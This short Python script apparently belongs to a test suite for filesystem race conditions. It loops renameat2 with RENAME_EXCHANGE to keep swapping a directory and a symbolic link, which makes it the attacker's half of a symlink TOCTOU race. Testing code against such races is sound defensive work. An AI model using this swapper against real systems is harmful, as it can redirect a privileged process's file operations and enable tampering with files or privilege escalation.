"""The attacker's side of the races: exchanges a directory and a symbolic link as fast as it can.

usage: swapper.py ONE OTHER ; prints "ready"; runs until it is killed
"""
import ctypes
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None)
one, other = (name.encode() for name in sys.argv[1:3])
print("ready", flush=True)
while True:
    libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
